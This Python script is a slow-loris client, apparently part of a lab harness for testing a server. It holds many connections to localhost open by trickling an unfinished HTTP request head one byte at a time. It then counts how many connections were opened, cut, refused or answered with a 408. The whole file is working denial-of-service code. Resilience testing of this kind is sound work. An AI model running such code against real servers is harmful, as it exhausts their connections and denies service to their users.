"""Slow-loris: many connections that send a request's head so slowly that it never ends.

A program of its own (`slow_client.py PORT CONNECTIONS BYTES`), so that it does not slow down what measures the others.
It prints a line when all are connected, or as many as can be; opens those anew that the server has cut; and at the end
of its standard input it closes all and prints what it has seen. Python's own library only.
"""

from __future__ import annotations

import errno
import json
import resource
import select
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: lab\r\nX-Slow: "
TRICKLE_SECONDS = 2.0
"""Every connection sends one byte this often."""
POLL_SECONDS = 0.1
CONNECTING_AT_ONCE = 100
"""Connects under way: more than a backlog's worth at once would only fill the accept queue."""
CONNECT_SECONDS = 30.0
"""After which those that are open have to do: a busy machine may have no more at once before the first are cut."""
SPARE_DESCRIPTORS = 64


class Attack:
    """The connections, and what became of them."""

    def __init__(self, port: int, connections: int, padding: int) -> None:
        self.address = ("127.0.0.1", port)
        self.wanted = connections
        self.head = HEAD + b"a" * padding
        self.epoll = select.epoll()
        self.open: dict[int, socket.socket] = {}
        self.connecting: dict[int, socket.socket] = {}
        self.seen = {"opened": 0, "cut": 0, "told_408": 0, "refused": 0}
        self.epoll.register(sys.stdin.fileno(), select.EPOLLIN | select.EPOLLHUP)

    def run(self) -> None:
        """Attack until standard input ends."""
        told, most, trickled = False, 0, time.monotonic()
        deadline = trickled + CONNECT_SECONDS
        while not self.step():
            most = max(most, len(self.open))
            # Fewer than there were: the first are being cut, and there will not be more at once.
            if not told and (most == self.wanted or len(self.open) < most or time.monotonic() > deadline):
                told = True
                print(json.dumps({"connected": most}), flush=True)
            if time.monotonic() - trickled > TRICKLE_SECONDS:
                trickled = time.monotonic()
                self.trickle()

    def step(self) -> bool:
        """Open what is missing and handle what has happened; True when it is over."""
        while len(self.open) + len(self.connecting) < self.wanted and len(self.connecting) < CONNECTING_AT_ONCE:
            self.connect()
        for fd, events in self.epoll.poll(POLL_SECONDS):
            if fd == sys.stdin.fileno():
                return True
            if fd in self.connecting:
                self.connected(fd, self.connecting.pop(fd))
            elif events & (select.EPOLLIN | select.EPOLLHUP | select.EPOLLERR):
                self.hear(fd)
        return False

    def connect(self) -> None:
        client = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        if client.connect_ex(self.address) not in (0, errno.EINPROGRESS):
            self.seen["refused"] += 1
            client.close()
            return
        self.connecting[client.fileno()] = client
        self.epoll.register(client.fileno(), select.EPOLLOUT)

    def connected(self, fd: int, client: socket.socket) -> None:
        if client.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            self.seen["refused"] += 1
            client.close()
            return
        self.seen["opened"] += 1
        self.open[fd] = client
        self.epoll.modify(fd, select.EPOLLIN)
        self.send(client, self.head)

    def hear(self, fd: int) -> None:
        """Read what the server says; when it has closed, so do we."""
        try:
            said = self.open[fd].recv(4096)
        except OSError:
            said = b""
        self.seen["told_408"] += said.startswith(b"HTTP/1.1 408")
        if not said:
            self.seen["cut"] += 1
            self.open.pop(fd).close()

    def trickle(self) -> None:
        for client in self.open.values():
            self.send(client, b"a")

    def send(self, client: socket.socket, data: bytes) -> None:
        try:
            client.send(data)
        except OSError:  # cut: `hear` sees it, too
            return


def main() -> None:
    """Attack as told on the command line."""
    port, connections, padding = map(int, sys.argv[1:4])
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, connections + SPARE_DESCRIPTORS), most))
    attack = Attack(port, connections, padding)
    attack.run()
    for client in (*attack.open.values(), *attack.connecting.values()):
        client.close()
    print(json.dumps(attack.seen), flush=True)


if __name__ == "__main__":
    main()
